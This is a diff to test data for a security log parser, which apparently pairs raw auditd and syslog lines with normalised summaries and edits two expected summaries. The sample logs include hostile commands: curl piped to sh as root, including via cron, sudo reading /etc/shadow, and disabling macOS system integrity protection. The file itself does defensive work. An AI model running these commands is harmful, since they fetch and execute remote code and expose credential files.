@@ -86,7 +86,7 @@ EXAMPLES = [
      "open process cat arguments etc shadow as user", {"process": "cat"}),
     ({"event": {"exec": {"target": {"executable": {"path": "/usr/bin/osascript"}}, "args": ["osascript", "-e", "display dialog"]}}, "process": {"executable": {"path": "/bin/zsh"}}}, "", "auditd",
      "process execute process usr bin osascript command osascript e display dialog parent bin zsh", {"process": "osascript", "parent": "zsh"}),
-    ({"name": "shell_history", "hostIdentifier": "w1", "columns": {"uid": "0", "command": "curl http://203.0.113.4/x | sh"}}, "", "auditd", "shell history command curl http url publicip x pipe sh as root", {"host": "w1"}),
+    ({"name": "shell_history", "hostIdentifier": "w1", "columns": {"uid": "0", "command": "curl http://203.0.113.4/x | sh"}}, "", "auditd", "shell command curl http url publicip x pipe sh as root", {"host": "w1"}),
     ("2031-03-12 10:15:22.123456+0100 0x1a2b     Default     0x0                  812    0    sudo: (libpam.2.dylib) bob : TTY=ttys000 ; PWD=/Users/bob ; USER=root ; COMMAND=/usr/bin/csrutil disable", "", "syslog",
      "privileged command sudo command usr bin csrutil disable by user as root", {"user": "bob"}),
     ("Mar 12 10:15:22 web1 bash[812]: HISTORY: PID=812 UID=0 curl http://203.0.113.4/x | sh", "", "syslog", "shell command curl http url publicip x pipe sh as root", {"host": "web1"}),
@@ -257,7 +257,7 @@ EXAMPLES = [
     ("2031-03-01T10:11:12.123456+00:00 web3 sudo[9]: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash -c 'cat /etc/shadow'", "", "syslog", "privileged command sudo / etc shadow / as root", {"user": "bob", "target": "root"}),
     ("Mar  1 10:11:12 web3 CRON[9]: (root) CMD (curl http://203.0.113.2/x | sh)", "", "syslog", "scheduled command cron / curl / pipe sh", {"user": "root"}),
     ("Mar  1 10:11:12 web3 kernel: [1.2] DROP IN=eth0 OUT= MAC=00 SRC=203.0.113.3 DST=10.0.0.1 LEN=40 PROTO=TCP SPT=5 DPT=23 WINDOW=1 SYN", "", "syslog", "firewall drop tcp / telnet port syn", {"src": "203.0.113.3", "port": "23"}),
-    ("Mar  1 10:11:12 mx postfix/smtpd[9]: warning: unknown[203.0.113.5]: SASL LOGIN authentication failed: UGFzc3dvcmQ6", "", "syslog", "mail postfix smtpd / publicip sasl login authentication failed", {"src": "203.0.113.5"}),
+    ("Mar  1 10:11:12 mx postfix/smtpd[9]: warning: unknown[203.0.113.5]: SASL LOGIN authentication failed: UGFzc3dvcmQ6", "", "syslog", "login failed mail login from publicip", {"src": "203.0.113.5"}),
     ({"MESSAGE": "Invalid user admin from 203.0.113.6 port 22", "SYSLOG_IDENTIFIER": "sshd", "_HOSTNAME": "web3", "_SYSTEMD_UNIT": "ssh.service", "__REALTIME_TIMESTAMP": "1"}, "", "syslog",
      "login failed ssh invalid user / publicip", {"user": "admin", "host": "web3", "service": "ssh.service"}),
     # key=value, CEF, LEEF
